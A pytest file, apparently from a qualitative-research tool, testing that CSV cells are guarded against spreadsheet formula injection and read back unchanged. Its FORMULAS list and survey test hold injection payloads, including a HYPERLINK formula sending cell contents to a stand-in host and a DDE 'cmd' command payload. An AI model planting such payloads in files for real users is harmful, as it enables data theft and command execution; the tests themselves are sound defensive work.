"""Tables that people open in a spreadsheet: nothing in them runs, and all is read back as it was."""

import csv
import io
from pathlib import Path

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from qualcode.model.case import Case
from qualcode.model.formula_guard import MAY_BEGIN, guarded, neutral, unguarded
from qualcode.model.personal_names import KnownName
from qualcode.store.records.cases import cases_text, parse_cases, read_cases
from qualcode.store.records.real_names import names_in, names_text, real_speakers
from qualcode.workbench.speakers.speakers import keep_real_labels
from tests.conftest import Run

#: What a spreadsheet program may run, or take for a number.
FORMULAS = (
    '=HYPERLINK("http://x.example/?"&A1,"more")', "+cmd|' /C calc'!A0", "-1+2", "@SUM(A1:A9)",
    "\t=1+2", "\r=1+2", "  =1+2", "\u00a0=1+2", "\u3000=1+2", "\u200b=1+2", "\ufeff@SUM(A1)",
    "＝1+2", "＋1", "－1", "＠SUM(A1)", "-5", "+44 20 7946 0000", "-", "\n=1",
)  # fmt: skip
HARMLESS = ("'t Hooft", "'", "''", "5", "a=b", "(+44)", "“=", "No. It’s =", "", "x\t=1")
words = st.text(st.characters(exclude_categories=("Cs",))) | st.sampled_from(
    [*FORMULAS, *HARMLESS, *(f"'{one}" for one in FORMULAS), *(f"''{one}" for one in FORMULAS)]
)


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_gets_a_quote_before_it(text: str):
    assert guarded(text) == f"'{text}"


@pytest.mark.parametrize("text", HARMLESS)
def test_what_is_no_formula_stays_as_it_is(text: str):
    assert guarded(text) == text
    assert unguarded(text) == text


@given(words)
def test_any_text_is_read_back_as_it_was(text: str):
    cell = guarded(text)
    assert unguarded(cell) == text
    assert cell[:1] not in set("=+-@\t\r\n＝＋－＠")
    assert cell.lstrip()[:1] not in set("=+-@＝＋－＠")
    assert cell == text or text[:1] in MAY_BEGIN
    assert neutral(text) in (cell, text)
    assert neutral(text).lstrip()[:1] not in set("=+-@＝＋－＠")


#: Cells as files keep them: without blanks around them, and with one kind of line end.
kept = words.map(
    lambda text: text.replace("\r\n", "\n").replace("\r", "").replace("\0", "").strip()
)


@pytest.mark.slow
@given(st.dictionaries(kept.filter(bool), kept, max_size=4))
@example({"Which helped; teachers; family; friends?": "-1+2"})
@example({'"=A1"': "\u3000=1"})
def test_cases_are_read_back_as_they_were(attributes: dict[str, str]):
    attributes = {n: v for n, v in attributes.items() if n not in ("case", "group")}
    case = Case("YP1", {"group": "yp", **attributes})
    text = cases_text([case, Case("YP2", {"group": "=1"})])
    first, second = parse_cases(text, "cases.csv").values()
    assert dict(first.attributes) == dict(case.attributes)
    assert second.attributes["group"] == "=1"
    for row in csv.reader(io.StringIO(text)):
        assert not any(cell.lstrip()[:1] in set("=+-@＝＋－＠") - {""} for cell in row if cell)


@pytest.mark.slow
@given(st.lists(st.tuples(kept.filter(bool), kept), min_size=1, max_size=3, unique=True))
def test_labels_of_speakers_are_read_back_as_they_were(
    tmp_path_factory: pytest.TempPathFactory, pairs: list[tuple[str, str]]
):
    root = tmp_path_factory.mktemp("study")
    path = root / "private" / "speakers.csv"
    keep_real_labels(path, {"one": pairs})
    # Another import writes the table anew; what is there is not quoted twice.
    keep_real_labels(path, {"two": [("=1", "Speaker 1")]})
    keep_real_labels(path, {"three": [("@x", "-2")]})
    assert real_speakers(root) == {
        "one": pairs, "two": [("=1", "Speaker 1")], "three": [("@x", "-2")],
    }  # fmt: skip


@given(kept.filter(bool))
def test_a_name_of_the_private_table_is_read_back_as_it_was(name: str):
    [found] = names_in(names_text([KnownName(name, "person", "[person 1]")]), "names.csv")
    assert (found.name, found.replacement) == (name.strip(), "[person 1]")


def test_answers_to_a_survey_run_in_no_spreadsheet(empty_study: Path, tmp_path: Path, run: Run):
    file = tmp_path / "answers.csv"
    with file.open("w", newline="") as out:
        csv.writer(out).writerows([
            ["Response ID", "Role", "What helped you most at school?"],
            *(
                [f"=1+{n}", role, f"It was a teacher who listened, number {n}, every week."]
                for n, role in enumerate(["=HYPERLINK(1)", "+cmd|x", "-1+2", "Pupil", "Pupil"])
            ),
        ])  # fmt: skip
    got = run(
        "-C", empty_study, "import", file, "--survey", "question", "--id-column", "Response ID"
    )
    assert got.status == 0, got.err
    written = [empty_study / "cases.csv", *(empty_study / "private").glob("*.csv")]
    assert len(written) >= 2
    for path in written:
        for row in csv.reader(io.StringIO(path.read_text())):
            assert not any(cell.lstrip()[:1] in tuple("=+-@") for cell in row), path
    roles = [v for case in read_cases(empty_study / "cases.csv").values()
             for v in case.attributes.values()]  # fmt: skip
    assert {"=HYPERLINK(1)", "+cmd|x", "-1+2"} <= set(roles)
    again = run(
        "-C", empty_study, "import", file, "--survey", "question", "--id-column", "Response ID"
    )
    assert "unchanged" in again.out
